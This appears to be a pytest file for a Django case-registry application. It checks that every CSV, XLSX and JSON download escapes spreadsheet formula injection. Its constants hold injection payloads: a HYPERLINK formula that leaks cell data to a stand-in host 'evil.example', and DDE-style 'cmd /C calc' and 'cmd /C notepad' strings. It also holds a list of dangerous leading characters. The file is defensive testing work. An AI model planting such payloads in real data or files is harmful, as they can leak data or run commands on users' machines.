"""Every file Amparo offers for download is safe to open in a spreadsheet.

An organisation named as a formula, a record id that is one, a rejected cell
that is one: whatever the registry holds, no text cell of any downloaded CSV,
XLSX or JSON file begins with `=`, `+`, `-` or `@` (unless it is a number),
because a spreadsheet would run it. Every view that answers with an attachment
is found by reading the code, so a new download is checked too.
"""

import csv
import inspect
import io
import json
from datetime import date

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from python_calamine import CalamineWorkbook

from amparo.exchange.formats import FORMATS as EXCHANGE_FORMATS
from amparo.exchange.services import file_import
from amparo.registry.models import Organisation
from amparo.registry.records import CaseRecord, EventRecord, PerpetratorRecord, PersonRecord
from amparo.registry.services import cases_register
from amparo.reports.dashboard import DOWNLOADABLE
from amparo.reports.writers import FORMATS, TABLE_FORMATS

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Refugio")'
HOSTILE_RECORD = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CELL = "+cmd|' /C notepad'!A0"
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
DOCUMENTS = ("html", "md", "pdf")  # read, not opened as a spreadsheet; their text is escaped by their own writers


def _is_dangerous(text: str) -> bool:
    if not text.startswith(DANGEROUS_START):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


def _texts(content: bytes, kind: str) -> list[str]:
    """Every text cell (or JSON string) of a file."""
    if kind == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]
    if kind == "xlsx":
        book = CalamineWorkbook.from_filelike(io.BytesIO(content))
        return [
            cell
            for name in book.sheet_names
            for row in book.get_sheet_by_name(name).to_python()
            for cell in row
            if isinstance(cell, str)
        ]
    found = []

    def walk(value):
        if isinstance(value, str):
            found.append(value)
        elif isinstance(value, list):
            for item in value:
                walk(item)
        elif isinstance(value, dict):
            for key, item in value.items():
                walk(key)
                walk(item)

    walk(json.loads(content))
    return found


@pytest.fixture
def hostile_registry(db):
    """Cases of an organisation named as a formula, one with a record id that is one, and an import of it
    whose rejected row holds one."""
    hostile = Organisation.objects.create(name=HOSTILE_NAME, org_type="NGO")
    records = [
        CaseRecord(
            ref,
            date(2024, 3, day),
            victim=PersonRecord("Feminine", "PE"),
            age_when_trafficked=15,
            exploitation_types=["SexualExploitation"],
            perpetrators=[PerpetratorRecord("parent")],
            events=[EventRecord("Exploitation", "150101")],
        )
        for day, ref in enumerate(["H-1", "H-2", "H-3", "H-4", "H-5", HOSTILE_RECORD], start=1)
    ]
    cases_register(records=records, source=hostile)
    batch = file_import(
        data=f"source_record_id,registration_date,prs_Gender\nR-1,2024-01-01,{HOSTILE_CELL}\n".encode(),
        file_name="hostile.csv",
        source=hostile,
    )
    assert batch.rejected == 1
    return {"organisation": hostile, "batch": batch}


def _downloads(batch) -> list[tuple[str, str, dict]]:
    """(url, kind, POST data or None) of every download, in every format."""
    downloads = [
        (reverse("dashboard-table", args=[name.replace("_", "-"), fmt]) + "?year=2024", fmt, None)
        for name in DOWNLOADABLE
        for fmt in TABLE_FORMATS
    ]
    # The cross-table and the comparison name sources in their rows too.
    downloads += [
        (reverse("dashboard-table", args=[name, fmt]) + query, fmt, None)
        for name, query in (
            ("crosstab", "?year=2024&rows=source&columns=sex"),
            ("compare", "?year_from=2023&year_to=2024&dimension=source"),
        )
        for fmt in TABLE_FORMATS
    ]
    downloads += [
        (reverse("report-download") + f"?year=2024&lang=en&format={fmt}", fmt, None)
        for fmt in FORMATS
        if fmt not in DOCUMENTS
    ]
    downloads += [
        (reverse("exchange:export"), kind, {"format": name, "kind": kind})
        for name, fmt in EXCHANGE_FORMATS.items()
        for kind in fmt.KINDS
    ]
    downloads += [(reverse("exchange:rejections", args=[batch.pk, kind]), kind, None) for kind in ("csv", "xlsx")]
    downloads += [(reverse("exchange:template", args=[kind]), kind, None) for kind in ("csv", "xlsx")]
    return downloads


def test_a_dashboard_csv_writes_an_organisation_named_as_a_formula_as_text(hostile_registry, data_manager, client_as):
    response = client_as(data_manager).get(reverse("dashboard-table", args=["source", "csv"]) + "?year=2024")
    rows = {row[0]: row for row in csv.reader(io.StringIO(response.content.decode()))}
    assert rows[str(hostile_registry["organisation"].pk)][1] == "'" + HOSTILE_NAME


def test_no_downloaded_file_holds_a_formula(hostile_registry, data_manager, client_as):
    client = client_as(data_manager)
    carriers = set()
    for url, kind, post in _downloads(hostile_registry["batch"]):
        response = client.post(url, post) if post else client.get(url)
        assert response.status_code == 200 and "attachment" in response["Content-Disposition"], url
        texts = _texts(response.content, kind)
        assert [t for t in texts if _is_dangerous(t)] == [], f"{url} {post or ''}"
        if any(t.startswith("'" + hostile) for t in texts for hostile in (HOSTILE_NAME, HOSTILE_RECORD, HOSTILE_CELL)):
            carriers.add(response["Content-Disposition"].split("filename=")[1].strip('"'))
    # The hostile values reach the files (the check above is not vacuous): the source table, the report,
    # the exports that carry record ids, the rejected rows.
    assert carriers == {
        "amparo-source-2024.csv",
        "amparo-source-2024.xlsx",
        "amparo-source-2024.json",
        *(f"amparo-source-sex-2024.{fmt}" for fmt in TABLE_FORMATS),
        *(f"amparo-compare-source-2023-2024.{fmt}" for fmt in TABLE_FORMATS),
        "amparo-report-2024-en.xlsx",
        "amparo-report-2024-en.json",
        "amparo-amparo-all-years.csv",
        "amparo-amparo-all-years.xlsx",
        "amparo-amparo-all-years.json",
        "amparo-htcds-all-years.csv",
        "amparo-htcds-all-years.xlsx",
        "amparo-htcds-all-years.json",
        f"rejected-rows-batch-{hostile_registry['batch'].pk}.csv",
        f"rejected-rows-batch-{hostile_registry['batch'].pk}.xlsx",
    }


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_audit_log_export_writes_a_user_name_tried_as_a_formula_as_text(administrator, client_as, kind):
    """A failed login keeps the user name that was tried: anyone can put a formula in the log that way."""
    from amparo.audit.models import AuditAction
    from amparo.audit.services import audit_record

    audit_record(user=None, action=AuditAction.LOGIN_FAILED, username=HOSTILE_NAME, details={"note": HOSTILE_CELL})
    response = client_as(administrator).get(reverse("audit-export", args=[kind]))
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    texts = _texts(response.content, kind)
    assert [t for t in texts if _is_dangerous(t)] == []
    assert "'" + HOSTILE_NAME in texts  # the check above is not vacuous


def _download_views() -> dict[str, object]:
    """URL name -> view of every route whose code answers with an attachment."""
    views = {}

    def walk(patterns, namespace=""):
        for entry in patterns:
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, f"{entry.namespace}:" if entry.namespace else namespace)
            elif isinstance(entry, URLPattern) and entry.name:
                view = inspect.unwrap(entry.callback)
                try:
                    source = inspect.getsource(view)
                except (OSError, TypeError):
                    continue
                if "Content-Disposition" in source:
                    views[namespace + entry.name] = view

    walk(get_resolver().url_patterns)
    return views


# Documents kept with a case go back as they were added, and only PDF or pictures are kept (judged by content,
# casework.domain.attachments): no spreadsheet opens their text as cells.
SERVED_AS_ADDED = {"casework-attachment-download"}


def test_every_download_view_is_checked():
    checked = {
        "dashboard-table",
        "report-download",
        "exchange:export",
        "exchange:rejections",
        "exchange:template",
        "audit-export",
    }
    assert set(_download_views()) == checked | SERVED_AS_ADDED
